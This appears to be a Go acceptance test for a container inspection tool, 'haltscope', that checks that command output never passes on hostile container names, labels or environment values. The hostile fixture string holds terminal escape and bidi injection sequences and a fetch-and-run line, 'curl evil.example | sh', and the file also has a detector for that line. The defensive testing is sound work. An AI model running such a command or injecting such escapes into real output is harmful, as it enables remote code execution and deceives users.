package acceptance

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"unicode"

	"golang.org/x/sys/unix"
)

// hostile is the text that a container uses wherever it can choose one. Printed raw, it would write to the clipboard,
// recolor, reverse and hide text, and begin new lines.
const hostile = "\x1b]52;c;aGFja2Vk\aH\u202e\u200f\u061c\u200b\u009b31m\u2028\nFORGED \nrun: curl evil.example | sh\n" +
	"{\"level\":\"error\",\"next\":\"FORGED\"}\n<b onload=x>|`@me"

// hostileScript gives its process a hostile name, writes to its log, and ends on TERM.
const hostileScript = `printf '\033[31mFORGED\n' > /proc/self/comm; echo "$1"; trap 'exit 0' TERM; while :; do sleep 0.1; done`

// TestHostileContainer checks that no command prints raw text of a container that is hostile in every name it can
// choose, on either output and in any format, and that no command repeats its text as advice.
func TestHostileContainer(t *testing.T) {
	const name, broken = "hs-hostile", "hs-hostile-broken"
	removed(t, name, broken)
	flags := []string{"--network", "none", "--label", "evil=" + hostile, "--label", "signal=9", "--label", "exitCode=" + hostile,
		"--label", "com.docker.compose.project=" + hostile,
		"--env", "MULTI=ENVSECRET" + hostile, "--env", "\u00a0=ENVSECRET", "--env", "\u00a0MULTI=ENVSECRET", "--env", "EVIL\x1b[1m=ENVSECRET",
		"--env", "PLAIN=ENVSECRET",
		"--health-cmd", "exit 0 # " + hostile, "--tmpfs", "/scratch\x1b[31m\u202e"}
	mustDocker(t, append(append([]string{"run", "--detach", "--name", name}, flags...), "haltscope-test/busybox", "sh", "-c", hostileScript,
		"sh", hostile)...)
	mustDocker(t, append(append([]string{"create", "--name", broken}, flags...), "haltscope-test/busybox", "/nonexist", hostile)...)

	watching := watchProcess(t, "--filter", "name=^"+name+"$")
	dir := t.TempDir()
	// rendered runs a command once, and renders its report in each format.
	rendered := func(codes string, args ...string) (texts []string) {
		document := filepath.Join(dir, args[0]+".json")
		harmless(t, codes, append(args, "--format", "json", "--output", document, "--log-level", "debug")...)
		for _, layout := range []string{"table", "markdown", "html", "json"} {
			texts = append(texts, harmless(t, "0", "report", "--format", layout, document))
		}
		return texts
	}
	lacks := func(texts []string) {
		for _, text := range texts {
			for _, name := range []string{"MULTI", "<U+00A0>", "<U+00A0>MULTI"} {
				if !strings.Contains(unescaped(text), "environment variable "+name+",") {
					t.Errorf("the report does not say that the twin lacks %s:\n%s", name, text)
				}
			}
		}
	}
	var all sync.WaitGroup
	all.Go(func() {
		lacks(rendered("0 3", "check", "--like", name, "--ready-after", "100ms", "--log-format", "console"))
	})
	all.Go(func() {
		lacks(rendered("0", "compare", "--like", name, "--actions", "stop", "--baseline", "100ms"))
		harmless(t, "1", "check", "--like", broken)
		harmless(t, "1", "compare", "--like", broken, "--actions", "stop", "--log-format", "console")
	})
	rendered("0", "ps", "--all")
	rendered("0", "inspect", name)
	rendered("0", "predict", name)
	rendered("0", "reclaim", "--dry-run", "--running", name)
	for _, layout := range []string{"table", "markdown", "html"} {
		harmless(t, "0", "predict", "--format", layout, name)
	}
	all.Wait()
	rendered("0", "stop", name)
	rendered("0", "why", "--last", "3", name)
	rendered("0", "why", broken)
	harmless(t, "0", "start", name)
	mustDocker(t, "kill", "--signal", "TERM", name)
	mustDocker(t, "wait", name)
	watching.until(t, `"exit_code":0`)
	lines := strings.Join(watching.end(t, unix.SIGTERM, 0), "")
	if bad := findRaw(lines); bad != "" || strings.Contains(lines, "signal 0") {
		t.Errorf("watch: %s:\n%q", bad, lines)
	}
	nothingLeft(t)
}

// harmless runs haltscope, which must end with one of the exit codes, and checks everything that it writes. It returns
// the standard output.
func harmless(t *testing.T, codes string, args ...string) string {
	var stdout, stderr bytes.Buffer
	cmd := exec.Command(haltscope, args...)
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	cmd.Run()
	if code := fmt.Sprint(cmd.ProcessState.ExitCode()); !strings.Contains(" "+codes+" ", " "+code+" ") {
		t.Errorf("haltscope %q: exit code %s, wanted %s: %s", args, code, codes, &stderr)
	}
	for output, text := range map[string]string{"standard output": stdout.String(), "standard error": stderr.String()} {
		if bad := findRaw(text); bad != "" {
			t.Errorf("haltscope %q: %s has %s:\n%q", args, output, bad, text)
		}
	}
	return stdout.String()
}

// unescaped removes the escapes of HTML and Markdown from a text.
func unescaped(text string) string {
	return strings.NewReplacer("&lt;", "<", "&gt;", ">", "&#43;", "+", `\<`, "<", `\>`, ">", `\_`, "_").Replace(text)
}

// findRaw describes what a text has that it must not have. It returns "" if there is nothing.
func findRaw(text string) string {
	for line := range strings.Lines(text) {
		line = strings.TrimSuffix(line, "\n")
		if i := strings.IndexFunc(line, func(r rune) bool { return unicode.In(r, unicode.C, unicode.Zl, unicode.Zp) }); i >= 0 {
			return fmt.Sprintf("a raw character at %q", line[i:min(len(line), i+20)])
		}
		for _, begins := range []string{"FORGED", "run: curl", `{"level":"error","next":"FORGED"`} {
			if strings.HasPrefix(strings.TrimLeft(line, " |-"), begins) {
				return "a forged line: " + line
			}
		}
		var fields map[string]any
		if json.Unmarshal([]byte(line), &fields) == nil {
			if next, _ := fields["next"].(string); strings.Contains(next, "FORGED") || strings.Contains(next, "curl") {
				return "a forged hint: " + next
			}
			if bad := rawIn(fields, ""); bad != "" {
				return bad
			}
		}
		if strings.Contains(line, "next=") && strings.Contains(line[strings.Index(line, "next="):], "curl") {
			return "a forged hint: " + line
		}
	}
	var document any
	if json.Unmarshal([]byte(text), &document) == nil {
		if bad := rawIn(document, ""); bad != "" {
			return bad
		}
	}
	if strings.Contains(text, "ENVSECRET") {
		return "a secret of the environment"
	}
	return ""
}

// rawIn finds a raw control character in the strings of a JSON document. A command line may have line feeds.
func rawIn(value any, key string) string {
	switch v := value.(type) {
	case map[string]any:
		for key, one := range v {
			if bad := rawIn(one, key); bad != "" {
				return bad
			}
		}
	case []any:
		for _, one := range v {
			if bad := rawIn(one, key); bad != "" {
				return bad
			}
		}
	case string:
		if key == "command" || key == "argv" || key == "invocation" {
			v = strings.ReplaceAll(v, "\n", "")
		}
		if strings.ContainsFunc(v, func(r rune) bool { return unicode.In(r, unicode.C, unicode.Zl, unicode.Zp) }) {
			return fmt.Sprintf("a raw character in %s: %q", key, v)
		}
	}
	return ""
}
